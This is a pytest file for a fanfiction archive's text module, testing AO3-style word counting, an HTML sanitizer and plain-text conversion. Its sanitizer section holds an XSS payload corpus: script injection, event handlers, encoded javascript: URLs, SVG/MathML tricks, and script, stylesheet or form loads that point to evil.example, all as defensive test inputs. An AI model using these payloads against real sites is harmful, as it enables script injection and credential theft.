"""The text functions: AO3's word count, the HTML sanitizer and plain text to HTML."""

# The cases are about dashes, quotes and look-alike letters on purpose.
# ruff: noqa: RUF001

import re
import sys
import unicodedata
from html.parser import HTMLParser

import pytest

from fanfold.works import text
from fanfold.works.text import count_words, plain_text_to_html, sanitize_html

# --- Word count ------------------------------------------------------------------------------

WORD_COUNTS = [
    # The examples AO3's rules are known by.
    ("one—two—three", 3),
    ("one , two , three", 3),
    ("<p>one</p>two<br/>three", 3),
    ("zwölf naïve fiancés", 3),
    ("一个简单の栗子", 7),
    # Nothing to count.
    ("", 0),
    ("   \n\t  ", 0),
    ("... !!! ??? ,,, ;;; :::", 0),
    ("— – - -- ---", 0),
    ("<p></p><br><hr>", 0),
    ("&amp; &nbsp; &lt; &gt; &#8212;", 0),
    ("\u00a0\u2003\u3000", 0),
    ("* * * ~ ~ ~ ♥ ♦ ★ 😭 + = < > / | \\", 0),
    # Entities are decoded before counting, and escaped markup is text.
    ("fish&amp;chips", 2),
    ("one&nbsp;two", 2),
    ("one&#8212;two&mdash;three", 3),
    ("caf&eacute; cr&#233;me", 2),
    ("&lt;b&gt;bold&lt;/b&gt;", 3),
    # Dashes: "--" is an em dash, hyphens join.
    ("one--two", 2),
    ("one---two", 2),
    ("one–two", 2),  # en dash
    ("one―two", 2),  # horizontal bar
    ("one - two", 2),
    ("arm-rest", 1),
    ("mother-in-law's", 1),
    # Apostrophes join, in all three forms.
    ("don't", 1),
    ("don’t", 1),
    ("‘tis", 1),
    ("rock 'n' roll", 3),
    ("“Quoted,” she said.", 3),
    # Tags separate words; attributes never count.
    ("<b>do</b>n't", 2),
    ("<em>one</em> <strong>two</strong>", 2),
    ("<ul><li>one</li><li>two</li></ul><table><tr><td>three</td></tr></table>", 3),
    ('<a href="https://example.org/many more words" title="a title">link</a>', 1),
    ('<img src="https://example.org/a.png" alt="alt text">', 0),
    ('<p title="a>b c">x</p>', 1),
    ("<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", 2),
    # Script and style contents and comments do not count.
    ("<script>var words = 'not counted';</script>one", 1),
    ("<style>p { color: red; }</style>one", 1),
    ("<!-- a comment of words -->one", 1),
    ("<!DOCTYPE html><html><body>one two</body></html>", 2),
    # "<" that starts no tag is text.
    ("a < b", 2),
    ("I <3 you", 3),
    # Spaceless scripts: one word per character, other scripts by spaces.
    ("我爱Python编程", 5),
    ("東京に行きました。", 8),
    ("ｶﾀｶﾅ", 4),  # halfwidth Katakana
    ("スタバで、コーヒー。", 8),
    ("สวัสดี", 6),  # Thai: every character, marks included
    ("안녕하세요 세계", 2),  # Korean Hangul is written with spaces
    ("Hello 世界 and 안녕", 5),
    ("𠀋𠀌 rare", 3),  # Han beyond U+FFFF
    ("مرحبا بالعالم", 2),
    ("שָׁלוֹם עוֹלָם", 2),  # Hebrew with vowel points (combining marks)
    ("नमस्ते दुनिया", 2),  # Devanagari vowel signs are marks
    ("cafe\u0301 au lait", 3),  # a decomposed é
    ("Привет, мир", 2),
    ("Γειά σου κόσμε", 3),
    ("ＡＢＣ ｄｅｆ", 2),  # fullwidth Latin
    ("𝒳 marks the spot", 4),
    # Numbers, underscores, URLs, addresses.
    ("42", 1),
    ("3.14", 2),
    ("1,000,000", 3),
    ("2nd place", 2),
    ("snake_case_name", 1),
    ("__init__", 1),
    ("https://example.org/some-page", 4),
    ("me@example.org", 3),
    ("and/or", 2),
    ("this | that", 2),
    ("#hashtag @someone", 2),
]


@pytest.mark.parametrize(("html", "expected"), WORD_COUNTS)
def test_count_words_follows_ao3_rules(html, expected):
    assert count_words(html) == expected


def test_count_words_counts_a_long_chapter():
    paragraph = "<p>She didn't look back — not once, not at the arm-rest.</p>\n"
    assert count_words(paragraph * 10_000) == 10 * 10_000


def test_mark_tables_match_this_pythons_unicode_data():
    """The generated mark tables are exactly the combining marks and connector punctuation that
    \\w misses, outside the spaceless scripts; regenerate them when Python's Unicode grows."""
    word = re.compile(r"\w")
    spaceless = re.compile(f"[{text._SPACELESS}]")
    missing, extra = [], []
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        category = unicodedata.category(char)
        wanted = (
            (category[0] == "M" or category == "Pc")
            and not word.match(char)
            and not spaceless.match(char)
            and not text._SPACELESS_ASTRAL.match(char)
        )
        table = text._MARKS_BMP if code <= 0xFFFF else text._MARKS_ASTRAL
        present = bool(table.match(char))
        if wanted and not present:
            missing.append(f"U+{code:04X}")
        elif present and not wanted:
            extra.append(f"U+{code:04X}")
    assert (missing[:10], extra[:10]) == ([], [])


# --- Sanitizer -------------------------------------------------------------------------------

SAFE_SCHEMES = {"http", "https", "mailto"}


class _SafetyChecker(HTMLParser):
    """Collects everything in sanitized HTML that would not be allowed."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in text.ALLOWED_TAGS:
            self.problems.append(f"element <{tag}>")
        allowed = text.ALLOWED_ATTRIBUTES["*"] | text.ALLOWED_ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            if name == "rel" and tag == "a":
                if value != "nofollow noopener":
                    self.problems.append(f"rel={value!r}")
                continue
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in {"href", "src", "cite"}:
                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
                if name in {"src", "cite"} and not (
                    scheme and scheme.group(1) in {"http", "https"}
                ):
                    self.problems.append(f"{name}={value!r}")
                if scheme and scheme.group(1) not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r}")

    handle_startendtag = handle_starttag


def assert_safe(html: str) -> None:
    checker = _SafetyChecker()
    checker.feed(html)
    checker.close()
    assert checker.problems == [], html


# An XSS corpus: each payload must come out with nothing executable and nothing outside the
# allow-list; the expected output shows what a reader sees instead.
XSS_PAYLOADS = [
    ("<script>alert(1)</script>Hello", "Hello"),
    ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>Hi", "Hi"),
    ('"><script>alert(1)</script>', '"&gt;'),
    ("<<script>script>alert(1)<</script>/script>", "&lt;/script&gt;"),
    ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
    ("<img src=x onerror=alert(1)>", "<img>"),
    (
        '<img src="https://example.org/a.png" onerror="alert(1)">',
        '<img src="https://example.org/a.png">',
    ),
    ("<p onclick=alert(1) onmouseover='alert(2)'>text</p>", "<p>text</p>"),
    ("<body onload=alert(1)>text", "text"),
    (
        "<details open ontoggle=alert(1)><summary>S</summary>D</details>",
        "<details><summary>S</summary>D</details>",
    ),
    ('<a href="javascript:alert(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    ('<a href=" javascript:alert(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    ('<a href="jav&#10;ascript:alert(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        '<a rel="nofollow noopener">x</a>',
    ),
    ('<a href="&#x6A;avascript&colon;alert(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    ('<a href="&#1;javascript:alert(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    ('<a href="vbscript:msgbox(1)">x</a>', '<a rel="nofollow noopener">x</a>'),
    (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a rel="nofollow noopener">x</a>',
    ),
    ('<img src="data:image/png;base64,iVBORw0KGgo=">', "<img>"),
    ('<img src="jav&#x0A;ascript:alert(1)">', "<img>"),
    ('<img src="//evil.example/x.png">', "<img>"),
    ('<q cite="javascript:alert(1)">q</q>', "<q>q</q>"),
    ('<blockquote cite="data:text/html,x">b</blockquote>', "<blockquote>b</blockquote>"),
    (
        '<a href="https://example.org" target="_blank" rel="opener">x</a>',
        '<a href="https://example.org" rel="nofollow noopener">x</a>',
    ),
    ("<svg onload=alert(1)><circle/>svg text</svg>", "svg text"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>', None),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", None),
    ('<math href="javascript:alert(1)">m</math>', None),
    ('<p style="position:fixed;top:0;left:0;width:100%">cover</p>', "<p>cover</p>"),
    ('<span style="background:url(javascript:alert(1))">s</span>', "<span>s</span>"),
    ("<style>@import 'https://evil.example/x.css';</style>text", "text"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">text', "text"),
    ('<iframe src="https://evil.example/"></iframe>after', "after"),
    ("<iframe srcdoc='<script>alert(1)</script>'>inner <b>markup</b></iframe>", ""),
    (
        '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
        "Go",
    ),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">text', "text"),
    ('<base href="https://evil.example/">text', "text"),
    ('<object data="x.swf"><embed src="x.swf">fallback</object>', "fallback"),
    ('<video><source onerror="alert(1)">v</video>', "v"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', None),
    ("<template><script>alert(1)</script></template>text", "text"),
    ("<div><p>unclosed <b>bold", "<div><p>unclosed <b>bold</b></p></div>"),
    ("<p>a<p>b</div></span>c", "<p>a</p><p>bc</p>"),
    ("<!-- <script>alert(1)</script> -->text", "text"),
    ('<p id="login" class="note">x</p>', '<p class="note">x</p>'),
    ('<font color="red">red</font> <marquee>m</marquee>', "red m"),
]


@pytest.mark.parametrize(("payload", "expected"), XSS_PAYLOADS)
def test_sanitize_html_removes_everything_executable(payload, expected):
    cleaned = sanitize_html(payload)
    assert_safe(cleaned)
    if expected is not None:
        assert cleaned == expected
    assert sanitize_html(cleaned) == cleaned  # stable when sanitized again (edits re-sanitize)


# Every allowed element survives with its allowed attributes.
KEPT_AS_IS = [
    "<p>Plain <b>b</b> <i>i</i> <u>u</u> <s>s</s> <strike>st</strike> <em>em</em> "
    "<strong>strong</strong> <big>big</big> <small>small</small> <sub>sub</sub> "
    "<sup>sup</sup> <tt>tt</tt> <code>code</code> <kbd>kbd</kbd> <samp>samp</samp> "
    "<var>var</var> <dfn>dfn</dfn> <cite>cite</cite></p>",
    '<p><abbr title="Archive of Our Own">AO3</abbr> <acronym title="as far as I know">AFAIK'
    "</acronym></p>",
    "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>",
    "<center>Centered</center><hr><address>Somewhere</address>",
    '<blockquote cite="https://example.org/source"><p>Quoted.</p></blockquote>',
    '<p><q cite="https://example.org/q">short quote</q></p>',
    '<p><del cite="https://example.org/why" datetime="2024-01-01">old</del> '
    '<ins datetime="2024-01-02">new</ins></p>',
    "<pre>  spaced\n    text</pre>",
    '<div class="note" align="center" title="t">div</div>',
    '<p dir="rtl" lang="ar">مرحبا</p>',
    '<p>English with <span lang="ja" dir="ltr">日本語</span> inside.</p>',
    "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp>字<rp>(</rp><rt>ji</rt><rp>)</rp></ruby>",
    '<ol start="3" type="i" reversed=""><li>three</li><li>two</li></ol>',
    '<ul type="square"><li>a</li><li>b<ul><li>nested</li></ul></li></ul>',
    "<dl><dt>Term</dt><dd>Definition</dd></dl>",
    "<details><summary>Spoiler</summary><p>Hidden text</p></details>",
    '<figure><img src="https://example.org/a.png" alt="A"><figcaption>Caption</figcaption>'
    "</figure>",
    '<img src="https://example.org/a.png" alt="A picture" width="100" height="50" '
    'title="t" align="left">',
    '<img src="http://example.org/b.gif" alt="">',
    "<table><caption>Cap</caption>"
    '<colgroup span="2" width="10"><col span="1" width="5"></colgroup>'
    '<thead><tr><th scope="col" colspan="2">Head</th></tr></thead>'
    '<tbody><tr><td rowspan="2" align="right">a</td><td>b</td></tr><tr><td>c</td></tr></tbody>'
    "<tfoot><tr><td>foot</td></tr></tfoot></table>",
    "<p>Line one<br>Line two</p>",
]


@pytest.mark.parametrize("html", KEPT_AS_IS)
def test_sanitize_html_keeps_allowed_elements_and_attributes(html):
    assert sanitize_html(html) == html


LINKS = [
    ('<a href="https://example.org/x" title="t">x</a>', "https://example.org/x"),
    ('<a href="http://example.org/">x</a>', "http://example.org/"),
    ('<a href="mailto:writer@example.org">mail</a>', "mailto:writer@example.org"),
    ('<a href="/works/1">relative</a>', "/works/1"),
    ('<a href="#note1">footnote</a>', "#note1"),
    ('<a href="chapters/2">relative path</a>', "chapters/2"),
]


@pytest.mark.parametrize(("html", "href"), LINKS)
def test_sanitize_html_keeps_links_and_marks_them_nofollow(html, href):
    cleaned = sanitize_html(html)
    assert f'href="{href}"' in cleaned
    assert 'rel="nofollow noopener"' in cleaned


def test_sanitize_html_keeps_named_anchors():
    assert sanitize_html('<a name="note1">1</a>') == '<a name="note1" rel="nofollow noopener">1</a>'


def test_sanitize_html_keeps_every_allowed_element():
    for tag in sorted(text.ALLOWED_TAGS):
        void = tag in {"br", "hr", "img", "col"}
        markup = f"<{tag}>" if void else f"<{tag}>x</{tag}>"
        context = {
            "li": "<ul>{}</ul>",
            "dt": "<dl>{}</dl>",
            "dd": "<dl>{}</dl>",
            "rp": "<ruby>a{}</ruby>",
            "rt": "<ruby>a{}</ruby>",
            "caption": "<table>{}<tr><td>c</td></tr></table>",
            "col": "<table><colgroup>{}</colgroup><tr><td>c</td></tr></table>",
            "colgroup": "<table>{}<tr><td>c</td></tr></table>",
            "thead": "<table>{}</table>",
            "tbody": "<table>{}</table>",
            "tfoot": "<table>{}</table>",
            "tr": "<table><tbody>{}</tbody></table>",
            "td": "<table><tr>{}</tr></table>",
            "th": "<table><tr>{}</tr></table>",
            "summary": "<details>{}</details>",
            "figcaption": "<figure>{}</figure>",
        }.get(tag, "<div>{}</div>")
        if tag in {"colgroup", "thead", "tbody", "tfoot"}:
            markup = f"<{tag}><tr><td>x</td></tr></{tag}>" if tag != "colgroup" else "<colgroup>"
        assert f"<{tag}" in sanitize_html(context.format(markup)), tag


def test_sanitize_html_keeps_text_of_removed_elements_but_not_script_contents():
    cleaned = sanitize_html(
        "<article><section>Kept <blink>text</blink></section></article>"
        "<script>dropped()</script><style>.dropped{}</style>"
    )
    assert cleaned == "Kept text"


def test_sanitize_html_of_nothing_is_nothing():
    assert sanitize_html("") == ""
    assert sanitize_html("   ") == ""


# --- Plain text ------------------------------------------------------------------------------

PLAIN_TEXT = [
    ("", ""),
    ("  \n\n  ", ""),
    ("One line.", "<p>One line.</p>"),
    ("First.\nSecond.", "<p>First.<br>\nSecond.</p>"),
    ("Para one.\n\nPara two.", "<p>Para one.</p>\n<p>Para two.</p>"),
    ("Para one.\r\n\r\nPara two.\r\nLine.", "<p>Para one.</p>\n<p>Para two.<br>\nLine.</p>"),
    ("Old Mac.\r\rNext.", "<p>Old Mac.</p>\n<p>Next.</p>"),
    ("Many blank lines.\n\n\n\n\nNext.", "<p>Many blank lines.</p>\n<p>Next.</p>"),
    ("Spaces on the blank line.\n   \nNext.", "<p>Spaces on the blank line.</p>\n<p>Next.</p>"),
    (
        "<script>alert('x')</script> & <b>not bold</b>",
        "<p>&lt;script&gt;alert('x')&lt;/script&gt; &amp; &lt;b&gt;not bold&lt;/b&gt;</p>",
    ),
    ("\n\nLeading and trailing.\n\n", "<p>Leading and trailing.</p>"),
    ("日本語の文。\n\n二段落目。", "<p>日本語の文。</p>\n<p>二段落目。</p>"),
]


@pytest.mark.parametrize(("plain", "expected"), PLAIN_TEXT)
def test_plain_text_to_html_makes_paragraphs_and_line_breaks(plain, expected):
    assert plain_text_to_html(plain) == expected


def test_plain_text_to_html_is_already_sanitized():
    for plain, _ in PLAIN_TEXT:
        html = plain_text_to_html(plain)
        assert sanitize_html(html) == html.strip()
